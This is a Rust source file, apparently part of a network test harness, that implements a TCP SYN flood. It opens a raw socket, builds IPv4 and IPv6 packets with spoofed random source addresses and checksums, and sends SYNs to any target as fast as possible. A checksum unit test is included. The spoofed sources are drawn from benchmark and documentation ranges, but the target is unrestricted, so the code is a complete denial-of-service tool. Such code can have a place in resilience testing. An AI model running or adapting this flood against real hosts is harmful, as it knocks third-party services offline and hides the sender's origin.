//! A flood of TCP SYNs from random source addresses, by a raw socket. It attacks what the world's namespaces hold, and
//! nothing else: the addresses it takes are those of documentation and benchmark networks.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::time::Instant;

use anyhow::{Context as _, Result};
use serde_json::json;
use socket2::{Domain, Protocol, Socket, Type};

use super::tell;

/// Protocol number of a socket whose user writes the IP header (raw(7)).
const IPPROTO_RAW: i32 = 255;
const TCP_LEN: usize = 20;
const TCP: u8 = 6;

/// Sends `count` SYNs to `to`, each from another random address of 198.18.0.0/15 or 2001:db8::/32 and port, as fast as it
/// can.
///
/// # Errors
/// Without the right to open a raw socket, or when the host has no route.
pub fn flood(to: SocketAddr, count: u64) -> Result<()> {
    let started = Instant::now();
    let protocol = Some(Protocol::from(IPPROTO_RAW));
    let socket = Socket::new(Domain::for_address(to), Type::RAW, protocol).context("cannot open a raw socket")?;
    // A raw socket takes a port of IPv6 for a protocol.
    let address = SocketAddr::new(to.ip(), 0).into();
    let mut state = 0x2545_f491_4f6c_dd1d_u64 ^ u64::from(std::process::id()) << 32;
    let mut sent = 0_u64;
    let mut refused = 0_u64;
    while sent < count {
        // Marsaglia's xorshift64.
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        let source = SocketAddr::new(source(to, state), (state >> 32) as u16 | 1024);
        match socket.send_to(Syn::new(source, to, (state >> 20) as u32).bytes(), &address) {
            Ok(_) => sent += 1,
            // A full queue: the next one may get through.
            Err(_) => refused += 1,
        }
        if refused > count {
            break;
        }
    }
    tell(&json!({ "sent": sent, "refused": refused, "seconds": started.elapsed().as_secs_f64() }));
    Ok(())
}

fn source(to: SocketAddr, random: u64) -> IpAddr {
    match to {
        SocketAddr::V4(_) => Ipv4Addr::from(0xc612_0000 | (random as u32 & 0x0001_ffff)).into(),
        SocketAddr::V6(_) => Ipv6Addr::from(0x2001_0db8_u128 << 96 | u128::from(random)).into(),
    }
}

/// A SYN without options, behind an IP header.
struct Syn {
    packet: [u8; 40 + TCP_LEN],
    len: usize,
}

impl Syn {
    /// The kernel completes the length and checksum of an IPv4 header.
    fn new(from: SocketAddr, to: SocketAddr, sequence: u32) -> Syn {
        let mut packet = [0; 40 + TCP_LEN];
        let (ip_len, addresses) = match (from.ip(), to.ip()) {
            (IpAddr::V4(from), IpAddr::V4(to)) => {
                (packet[0], packet[3], packet[8], packet[9]) = (0x45, 20 + TCP_LEN as u8, 64, TCP);
                packet[12..16].copy_from_slice(&from.octets());
                packet[16..20].copy_from_slice(&to.octets());
                (20, 12..20)
            }
            (from, to) => {
                let octets = |ip: IpAddr| match ip {
                    IpAddr::V4(ip) => ip.to_ipv6_mapped().octets(),
                    IpAddr::V6(ip) => ip.octets(),
                };
                (packet[0], packet[5], packet[6], packet[7]) = (0x60, TCP_LEN as u8, TCP, 64);
                packet[8..24].copy_from_slice(&octets(from));
                packet[24..40].copy_from_slice(&octets(to));
                (40, 8..40)
            }
        };
        let (ip, tcp) = packet.split_at_mut(ip_len);
        tcp[0..2].copy_from_slice(&from.port().to_be_bytes());
        tcp[2..4].copy_from_slice(&to.port().to_be_bytes());
        tcp[4..8].copy_from_slice(&sequence.to_be_bytes());
        (tcp[12], tcp[13]) = (5 << 4, 0x02);
        tcp[14..16].copy_from_slice(&u16::MAX.to_be_bytes());
        let words = ip[addresses].chunks_exact(2).chain(tcp[..TCP_LEN].chunks_exact(2));
        let pseudo = u32::from(TCP) + TCP_LEN as u32;
        let sum = folded(pseudo + words.map(|word| u32::from(u16::from_be_bytes([word[0], word[1]]))).sum::<u32>());
        tcp[16..18].copy_from_slice(&(!sum).to_be_bytes());
        Syn { packet, len: ip_len + TCP_LEN }
    }

    fn bytes(&self) -> &[u8] {
        &self.packet[..self.len]
    }
}

fn folded(mut sum: u32) -> u16 {
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    sum as u16
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A receiver's check: pseudo header and segment sum up to all ones (RFC 9293 section 3.1).
    #[test]
    fn the_checksum_is_right() {
        for (from, to, addresses) in
            [("198.18.1.2:4321", "10.0.0.1:80", 12), ("[2001:db8::77:1]:4321", "[fd00::1]:80", 8)]
        {
            let syn = Syn::new(from.parse().unwrap(), to.parse().unwrap(), 0xdead_beef);
            let words = syn.bytes()[addresses..].chunks_exact(2);
            let sum: u32 = words.map(|word| u32::from(u16::from_be_bytes([word[0], word[1]]))).sum();
            assert_eq!(folded(sum + 6 + 20), 0xffff, "{from}");
        }
    }
}
